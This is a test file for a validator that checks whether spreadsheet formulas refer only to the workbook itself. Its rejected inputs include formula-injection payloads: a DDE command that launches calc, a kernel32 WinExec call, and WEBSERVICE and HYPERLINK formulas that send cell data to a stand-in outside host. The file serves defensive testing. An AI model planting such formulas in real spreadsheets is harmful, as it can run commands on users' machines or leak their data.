import { A_HANG } from "../a-hang";
import { isPlainFormula } from "../../src/savings/plain-formula";

test.each([
  "=SUM(B3:B5,B7)",
  "=B4+B5-$C$6*1.5",
  "=SUBTOTAL(9,C5:C20)",
  "=RC[-12]*2",
  '=IF(RC[-2]="","open","done")',
  "=R1C1+R[-1]C",
  "=R12C34+RC[12]",
  "=R[12]C[-1]*R[1]C",
  "='Children''s services'!C5",
  "=Birmingham!C5/1000",
  "=SUM(Savings[2017/18])",
  "=SAVINGS.TOTAL('Birmingham'!$A$4:$F$40)",
  '="in "&TEXT(A1,"0.0%")&" of it"',
  '="=WEBSERVICE(""https://elsewhere.example"")"',

  "=TRUE",
  "=-0.1",
  "=round(sum(b3:b5),1)",
])("%s is made of what stands in the workbook", (formula) => {
  expect(isPlainFormula(formula)).toBe(true);
});

test.each([
  "=cmd|' /C calc'!A0",
  "=DDE(1)",
  '=WEBSERVICE("https://elsewhere.example/"&A1)',
  '=HYPERLINK("https://elsewhere.example/"&A1,"Click")',
  '=IMAGE("https://elsewhere.example/a.png")',
  '=RTD("server.id",,"topic")',
  '=CALL("kernel32","WinExec","JCJ","calc",0)',
  "=REGISTER.ID(1)",
  "=STOCKHISTORY(1)",
  '=INDIRECT("A1")',
  "=[Other.xlsx]Sheet1!A1",
  "='[Other.xlsx]Sheet1'!A1",
  "='C:\\papers\\[Other.xlsx]Sheet1'!A1",
  "=[1]Sheet1!A1",
  "=SUM(A1,WEBSERVICE(B1))",
  '=SUM(A1,"")&WEBSERVICE(B1)',
  '=""&"',
  "=Rate*B4",
  "=@Rate",
  "=A1#",
  "=LAMBDA(x,x)(1)",
  "=_xlfn.WEBSERVICE(A1)",
  "SUM(A1)",
  "",
])("%s could be more", (formula) => {
  expect(isPlainFormula(formula)).toBe(false);
});

test("a long formula is looked through in one pass", () => {
  const begun = performance.now();
  expect(isPlainFormula(`=${"SUM(A1,".repeat(1_000_000)}`)).toBe(true);
  expect(isPlainFormula(`=${"A".repeat(1_000_000)}`)).toBe(false);
  expect(isPlainFormula(`=${"'".repeat(1_000_001)}`)).toBe(false);
  expect(isPlainFormula(`="${'""'.repeat(1_000_000)}`)).toBe(false);
  expect(performance.now() - begun).toBeLessThan(A_HANG);
});
